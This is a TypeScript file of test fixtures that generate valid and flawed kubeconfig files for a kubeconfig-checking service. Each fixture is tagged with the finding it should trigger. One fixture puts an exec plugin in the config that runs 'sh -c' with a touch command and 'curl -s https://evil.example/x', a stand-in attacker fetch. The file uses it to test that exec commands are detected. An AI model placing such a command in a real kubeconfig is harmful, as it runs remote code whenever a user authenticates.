import { stringify } from 'yaml';
import {
  apiServerNames,
  authority,
  clusterCaCertificate,
  clusterCaName,
  issuerOf,
  jane,
  janesCertificate,
  leafExtensions,
  serverCertificate,
  userCertificate,
} from '../certificates.js';
import { type Fixture, several, single } from '../fixture.js';
import { dns, extKeyUsage, ip, time, user } from '../values.js';
import { pemOf } from './certificates.js';
import { pkcs8 } from './keys.js';

export const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const otherCa = (): Buffer => authority(user('other'), 'other-ca');

interface Entry {
  readonly name: string;
  readonly cluster?: object;
  readonly user?: object;
  readonly context?: object;
}
interface Config {
  readonly clusters?: readonly Entry[];
  readonly users?: readonly Entry[];
  readonly contexts?: readonly Entry[];
  readonly current?: string | null;
}

const server = 'https://10.20.0.1:6443';
const withCa = (ca: Buffer = clusterCaCertificate(), at: string = server) => ({
  server: at,
  'certificate-authority-data': base64(pemOf(ca)),
});
/** A CA with the name that all clusters give theirs. */
const named = (key: 'other-ca' | 'root'): Buffer => authority(clusterCaName, key);
const usersBy = (key: 'other-ca' | 'root') => ({
  'client-certificate-data': base64(pemOf(userCertificate(jane, 'jane', { issuer: issuerOf(clusterCaName, key) }))),
  'client-key-data': base64(pkcs8('jane')),
});
const janesUser = () => ({
  'client-certificate-data': base64(pemOf(janesCertificate())),
  'client-key-data': base64(pkcs8('jane')),
});

/** A kubeconfig with one cluster, one user and one context, except for the given parts. */
export function kubeconfig({ clusters, users, contexts, current = 'prod' }: Config = {}): object {
  return {
    apiVersion: 'v1',
    kind: 'Config',
    clusters: clusters ?? [{ name: 'production', cluster: withCa() }],
    users: users ?? [{ name: 'jane', user: janesUser() }],
    contexts: contexts ?? [{ name: 'prod', context: { cluster: 'production', user: 'jane', namespace: 'dev' } }],
    ...(current === null ? {} : { 'current-context': current }),
  };
}

/** Lines are not folded, because kubectl does not fold them either. */
export const yaml = (value: object): string => stringify(value, { lineWidth: 0 });
const clusterOf = (cluster: object) => yaml(kubeconfig({ clusters: [{ name: 'production', cluster }] }));
const userOf = (entry: object) => yaml(kubeconfig({ users: [{ name: 'jane', user: entry }] }));
const fixture = (name: string, about: string, build: () => string, ...raises: Fixture['raises']): Fixture =>
  single(`kubeconfig-${name}`, about, 'yaml', build, raises);

const good: readonly Fixture[] = [
  fixture('of-ours', 'what this service hands out: our cluster, and a certificate of our inventory', () =>
    yaml(kubeconfig()),
  ),
  single('kubeconfig-json', 'the same in JSON', 'json', () => JSON.stringify(kubeconfig(), null, 2)),
  single('kubeconfig-base64', 'the same in base64, as it stands in Secrets', 'txt', () => base64(yaml(kubeconfig()))),
  fixture('with-comments', 'comments, anchors and folded base64', () => {
    const folded = base64(pemOf(clusterCaCertificate())).replace(/.{76}/g, '$&\n      ');
    return `# of production
apiVersion: v1
kind: Config
current-context: prod
clusters:
- name: production
  cluster:
    server: ${server}
    certificate-authority-data: |
      ${folded}
users:
- name: jane
  user: &jane
    client-certificate-data: ${base64(pemOf(janesCertificate()))}
    client-key-data: ${base64(pkcs8('jane'))}
- name: jane-too
  user: *jane
contexts:
- {name: prod, context: {cluster: production, user: jane}}
- {name: prod-too, context: {cluster: production, user: jane-too}}
`;
  }),
  fixture(
    'broken-line',
    'one line that is no YAML, and data that is intact',
    () => yaml(kubeconfig()).replace(/^users:$/m, 'users: [jane\n  - oops'),
    'MalformedObject',
  ),
  fixture(
    'pasted-with-prompt',
    'pasted from a terminal, with its prompt and folded data',
    () => {
      const folded = base64(pemOf(clusterCaCertificate())).replace(/.{76}/g, '$&\n        ');
      const data = `    certificate-authority-data: ${folded}\n`;
      const config = yaml(kubeconfig()).replace(/^ +certificate-authority-data: .*\n/m, data);
      return `jane@laptop:~$ kubectl config view --raw\n${config}jane@laptop:~$ \n`;
    },
    'MalformedObject',
  ),
  fixture(
    'several-contexts',
    'two clusters of ours, three contexts, a token and an exec plugin',
    () =>
      yaml(
        kubeconfig({
          clusters: [
            { name: 'production', cluster: withCa() },
            {
              name: 'edge',
              cluster: withCa(authority(user('k3s-server-ca'), 'k3s-server-ca'), 'https://edge.corp.example:6443'),
            },
          ],
          users: [
            { name: 'jane', user: janesUser() },
            {
              name: 'jane@edge',
              user: {
                'client-certificate-data': base64(
                  pemOf(userCertificate(jane, 'bob', { issuer: issuerOf(user('k3s-client-ca'), 'k3s-client-ca') })),
                ),
                'client-key-data': base64(pkcs8('bob')),
              },
            },
            { name: 'robot', user: { token: 'eyJhbGciOiJSUzI1NiJ9.c2VjcmV0LXRva2Vu.c2lnbmF0dXJl' } },
          ],
          contexts: [
            { name: 'prod', context: { cluster: 'production', user: 'jane' } },
            { name: 'edge', context: { cluster: 'edge', user: 'jane@edge' } },
            { name: 'robot', context: { cluster: 'edge', user: 'robot', namespace: 'ci' } },
          ],
        }),
      ),
    'StaticToken',
  ),
  fixture('empty', 'a kubeconfig with nothing in it', () =>
    yaml(kubeconfig({ clusters: [], users: [], contexts: [], current: null })),
  ),
];

const clusters: readonly Fixture[] = [
  fixture(
    'insecure',
    'insecure-skip-tls-verify',
    () => clusterOf({ server, 'insecure-skip-tls-verify': true }),
    'InsecureSkipTlsVerify',
  ),
  fixture('http', 'a server over http', () => clusterOf({ server: 'http://10.20.0.1:8080' }), 'ServerOverHttp'),
  fixture(
    'without-server',
    'a cluster without server',
    () => clusterOf({ 'certificate-authority-data': base64(pemOf(clusterCaCertificate())) }),
    'ServerMissing',
  ),
  fixture(
    'server-no-url',
    'a server that is no URL',
    () => clusterOf(withCa(clusterCaCertificate(), 'not a url')),
    'ServerMissing',
  ),
  fixture(
    'without-ca',
    'a cluster without CA',
    () => clusterOf({ server: 'https://api.corp.example' }),
    'CertificateAuthorityMissing',
  ),
  fixture(
    'proxy',
    'a proxy',
    () => clusterOf({ ...withCa(), 'proxy-url': 'socks5://127.0.0.1:1080' }),
    'ProxyConfigured',
  ),
  fixture(
    'foreign-ca',
    "a cluster of ours with somebody else's CA",
    () => clusterOf(withCa(otherCa())),
    'ServingAuthorityWrong',
  ),
  fixture('foreign-cluster', 'a cluster that is none of ours', () =>
    yaml(
      kubeconfig({
        clusters: [{ name: 'production', cluster: withCa(clusterCaCertificate(), 'https://192.0.2.7:6443') }],
      }),
    ),
  ),
  fixture(
    'leaf-as-ca',
    'a certificate that is no CA in place of the CA',
    () => clusterOf(withCa(serverCertificate())),
    'LeafUsedAsCa',
  ),
  fixture('ca-bundle', 'several CAs', () =>
    clusterOf({ server, 'certificate-authority-data': base64(pemOf(clusterCaCertificate()) + pemOf(otherCa())) }),
  ),
  fixture(
    'ca-expired',
    'a CA that has expired',
    () =>
      clusterOf(withCa(authority(user('old'), 'other-ca', { notAfter: time('2026-10-01') }), 'https://192.0.2.7:6443')),
    'CertificateExpired',
  ),
  several(
    'kubeconfig-beside-its-server',
    "a kubeconfig and the API server's certificate, which lacks the address that it connects to",
    () => ({
      'jane.kubeconfig': clusterOf(withCa(clusterCaCertificate(), 'https://192.0.2.7:6443')),
      'apiserver.crt': pemOf(
        serverCertificate(user('kube-apiserver'), [
          dns('kubernetes'),
          dns('kubernetes.default'),
          dns('kubernetes.default.svc'),
          ip(10, 20, 0, 1),
        ]),
      ),
    }),
    ['SubjectAltNameLacksServer'],
  ),
  several(
    'kubeconfig-of-a-rebuilt-cluster',
    "the kubeconfig of a cluster before it was rebuilt, the CA and the API server's certificate after that",
    () => ({
      'admin.conf': yaml(
        kubeconfig({
          clusters: [{ name: 'lab', cluster: withCa(named('other-ca'), 'https://192.0.2.7:6443') }],
          users: [{ name: 'jane', user: usersBy('other-ca') }],
          contexts: [{ name: 'prod', context: { cluster: 'lab', user: 'jane' } }],
        }),
      ),
      'pki/ca.crt': pemOf(named('root')),
      'pki/apiserver.crt': pemOf(
        serverCertificate(user('kube-apiserver'), [...apiServerNames, ip(192, 0, 2, 7)], {
          issuer: issuerOf(clusterCaName, 'root'),
        }),
      ),
    }),
    ['ServerOfAnotherAuthority'],
  ),
  fixture(
    'client-of-a-rebuilt-cluster',
    'the CA of a cluster, and the certificate of a user of the cluster of that name that was there before',
    () =>
      yaml(
        kubeconfig({
          clusters: [{ name: 'lab', cluster: withCa(named('other-ca'), 'https://192.0.2.7:6443') }],
          users: [{ name: 'jane', user: usersBy('root') }],
          contexts: [{ name: 'prod', context: { cluster: 'lab', user: 'jane' } }],
        }),
      ),
    'ClientOfAnotherAuthority',
  ),
  several(
    'kubeconfig-beside-its-good-server',
    "a kubeconfig and the API server's certificate, which has its address",
    () => ({
      'jane.kubeconfig': yaml(kubeconfig()),
      'apiserver.crt': pemOf(serverCertificate()),
    }),
  ),
];

const users: readonly Fixture[] = [
  fixture(
    'files',
    'files in place of data',
    () =>
      yaml(
        kubeconfig({
          clusters: [
            { name: 'production', cluster: { server, 'certificate-authority': '/etc/kubernetes/pki/ca.crt' } },
          ],
          users: [
            { name: 'jane', user: { 'client-certificate': 'jane.crt', 'client-key': '../keys/jane.key' } },
            { name: 'robot', user: { tokenFile: '/var/run/secrets/token' } },
          ],
          contexts: [
            { name: 'prod', context: { cluster: 'production', user: 'jane' } },
            { name: 'robot', context: { cluster: 'production', user: 'robot' } },
          ],
        }),
      ),
    'FilePathWillNotTravel',
  ),
  fixture('token', 'a static token', () => userOf({ token: 'c2VjcmV0LXRva2VuLW9mLWphbmU' }), 'StaticToken'),
  fixture(
    'basic',
    'a username and a password',
    () => userOf({ username: 'jane', password: 'hunter2-hunter2' }),
    'BasicAuthentication',
  ),
  fixture(
    'exec',
    'a command that would leave a file behind',
    () =>
      userOf({
        exec: {
          apiVersion: 'client.authentication.k8s.io/v1',
          command: 'sh',
          args: ['-c', 'touch /tmp/kubepass-inspection-was-here; curl -s https://evil.example/x'],
          env: [{ name: 'AWS_PROFILE', value: 'secret-profile-value' }],
          interactiveMode: 'Never',
        },
      }),
    'ExecCommand',
  ),
  fixture(
    'exec-plugin',
    'what aws eks update-kubeconfig writes',
    () =>
      userOf({
        exec: {
          apiVersion: 'client.authentication.k8s.io/v1beta1',
          command: 'aws',
          args: ['--region', 'eu-central-1', 'eks', 'get-token', '--cluster-name', 'production', '--output', 'json'],
          env: [{ name: 'AWS_PROFILE', value: 'production' }],
        },
      }),
    'ExecPlugin',
  ),
  fixture(
    'secrets-in-texts',
    'secrets in arguments, variables, URLs and names',
    () =>
      yaml(
        kubeconfig({
          clusters: [
            {
              name: 'production',
              cluster: {
                ...withCa(undefined, ' https://jane:hunter2-hunter2@10.20.0.1:6443/?token=hunter2-hunter2'),
                'proxy-url': 'jane:hunter2-hunter2@proxy.corp.example:3128',
              },
            },
          ],
          users: [
            {
              name: 'jane',
              user: {
                exec: {
                  apiVersion: 'client.authentication.k8s.io/v1',
                  command: 'https://jane:hunter2-hunter2@corp.example/login',
                  args: [
                    ...['get-token', '--cluster-name', 'production', '--token', 'hunter2-hunter2'],
                    ...['--password=hunter2-hunter2', '-H', 'Authorization: Bearer hunter2-hunter2'],
                    ...['--oidc-client-secret', 'hunter2-hunter2', '-u', 'jane:hunter2-hunter2'],
                    ...['-c', "curl --header 'X-Api-Key: hunter2-hunter2' https://corp.example?token=hunter2-hunter2"],
                  ],
                  env: [{ name: 'API_TOKEN=hunter2-hunter2', value: 'secret-profile-value' }],
                },
              },
            },
            { name: 'token=hunter2-hunter2', user: { tokenFile: '/run/x?password=hunter2-hunter2' } },
          ],
          contexts: [
            { name: 'prod', context: { cluster: 'production', user: 'jane' } },
            { name: 'other', context: { cluster: 'production', user: 'token=hunter2-hunter2' } },
          ],
        }),
      ),
    'SecretRedacted',
  ),
  fixture(
    'auth-provider',
    'an auth-provider that would run a command',
    () =>
      userOf({
        'auth-provider': {
          name: 'gcp',
          config: {
            'cmd-path': '/usr/bin/gcloud',
            'cmd-args': 'config config-helper',
            'access-token': 'ya29.secret-access-token',
          },
        },
      }),
    'AuthProvider',
  ),
  fixture(
    'impersonation',
    'somebody else',
    () => userOf({ ...janesUser(), as: 'admin', 'as-groups': ['system:masters'] }),
    'Impersonation',
  ),
  fixture('no-credential', 'a user without credential', () => userOf({}), 'NoCredential'),
  fixture(
    'two-credentials',
    'a token beside a certificate',
    () => userOf({ ...janesUser(), token: 'c2VjcmV0LXRva2VuLW9mLWphbmU' }),
    'AmbiguousCredential',
  ),
  fixture(
    'key-of-another',
    'the key of another certificate',
    () => userOf({ ...janesUser(), 'client-key-data': base64(pkcs8('bob')) }),
    'KeyMismatch',
  ),
  fixture('certificate-without-key', 'a client certificate and no key', () =>
    userOf({ 'client-certificate-data': base64(pemOf(janesCertificate())) }),
  ),
  fixture(
    'ca-as-user',
    'a CA as client certificate',
    () => userOf({ 'client-certificate-data': base64(pemOf(otherCa())), 'client-key-data': base64(pkcs8('other-ca')) }),
    'CaUsedAsLeaf',
  ),
  fixture(
    'server-as-user',
    'a certificate for servers as client certificate',
    () =>
      userOf({
        'client-certificate-data': base64(pemOf(serverCertificate())),
        'client-key-data': base64(pkcs8('server')),
      }),
    'ExtendedKeyUsageUnsuitable',
  ),
  fixture(
    'client-of-another-ca',
    'a client certificate that our cluster does not accept',
    () =>
      userOf({
        'client-certificate-data': base64(
          pemOf(userCertificate(jane, 'jane', { issuer: issuerOf(user('other'), 'other-ca') })),
        ),
        'client-key-data': base64(pkcs8('jane')),
      }),
    'ClientNotTrusted',
  ),
  fixture(
    'client-expired',
    'a client certificate that has expired',
    () =>
      userOf({
        'client-certificate-data': base64(pemOf(userCertificate(jane, 'jane', { notAfter: time('2026-11-30') }))),
        'client-key-data': base64(pkcs8('jane')),
      }),
    'CertificateExpired',
  ),
  fixture(
    'client-self-signed',
    'a client certificate that signed itself, to a cluster of ours',
    () =>
      userOf({
        'client-certificate-data': base64(
          pemOf(
            userCertificate(jane, 'jane', {
              issuer: { ...issuerOf(jane, 'jane'), keyIdentifier: null },
              extensions: leafExtensions({ ...issuerOf(jane, 'jane'), keyIdentifier: null }, extKeyUsage('clientAuth')),
            }),
          ),
        ),
        'client-key-data': base64(pkcs8('jane')),
      }),
    'ClientNotTrusted',
  ),
  fixture(
    'client-signed-by-a-user',
    'a client certificate that another user signed, with the certificate of that user',
    () =>
      userOf({
        'client-certificate-data': base64(
          pemOf(userCertificate(user('bob'), 'bob', { issuer: issuerOf(jane, 'jane') })) + pemOf(janesCertificate()),
        ),
        'client-key-data': base64(pkcs8('bob')),
      }),
    'IssuerNotCa',
  ),
  fixture(
    'system-masters',
    'a client certificate of system:masters',
    () =>
      userOf({
        'client-certificate-data': base64(pemOf(userCertificate(user('kubernetes-admin', 'system:masters')))),
        'client-key-data': base64(pkcs8('jane')),
      }),
    'SystemMasters',
  ),
  fixture(
    'blank-in-username',
    'a client certificate whose username begins with a blank',
    () =>
      userOf({
        'client-certificate-data': base64(pemOf(userCertificate(user(' jane', 'dev')))),
        'client-key-data': base64(pkcs8('jane')),
      }),
    'BlankInName',
  ),
  fixture(
    'data-not-base64',
    'PEM where its base64 belongs',
    () => userOf({ ...janesUser(), 'client-certificate-data': pemOf(janesCertificate()) }),
    'FieldNotBase64',
  ),
];

const structure: readonly Fixture[] = [
  fixture(
    'dangling',
    'a context of a user that is not there',
    () => yaml(kubeconfig({ contexts: [{ name: 'prod', context: { cluster: 'production', user: 'joe' } }] })),
    'DanglingReference',
  ),
  fixture(
    'no-current-context',
    'no current context',
    () => yaml(kubeconfig({ current: null })),
    'CurrentContextMissing',
  ),
  fixture(
    'current-context-gone',
    'a current context that is not there',
    () => yaml(kubeconfig({ current: 'staging' })),
    'CurrentContextMissing',
  ),
  fixture(
    'duplicate-name',
    'two users of one name',
    () =>
      yaml(
        kubeconfig({
          users: [
            { name: 'jane', user: janesUser() },
            { name: 'jane', user: { token: 'c2VjcmV0LXRva2VuLW9mLWphbmU' } },
          ],
        }),
      ),
    'DuplicateName',
  ),
  fixture(
    'unused',
    'a user that no context names',
    () =>
      yaml(
        kubeconfig({
          users: [
            { name: 'jane', user: janesUser() },
            { name: 'joe', user: { token: 'c2VjcmV0LXRva2VuLW9mLWpvZQ' } },
          ],
        }),
      ),
    'UnusedEntry',
  ),
  fixture(
    'duplicate-member',
    'a server that is given twice',
    () => yaml(kubeconfig()).replace(/ *server: .*\n/, (line) => line + line.replace('10.20.0.1', '192.0.2.7')),
    'DuplicateMember',
  ),
  single(
    'kubeconfig-json-duplicate-member',
    'a server that is given twice, in JSON',
    'json',
    () => JSON.stringify(kubeconfig()).replace('"server":', '"server":"https://192.0.2.7:6443","server":'),
    ['DuplicateMember'],
  ),
  fixture(
    'wrong-types',
    'a name that is a number, users that are a text',
    () =>
      `apiVersion: v1
kind: Config
current-context: 7
clusters:
- name: 7
  cluster: {server: ${server}}
- cluster: {server: ${server}}
users: none
contexts:
- name: prod
`,
    'FieldMissing',
  ),
  fixture('not-yaml', 'a kubeconfig that is not YAML', () => `apiVersion: v1\nkind: Config\nclusters: [}\n`),
];

export const kubeconfigFixtures: readonly Fixture[] = [...good, ...clusters, ...users, ...structure];
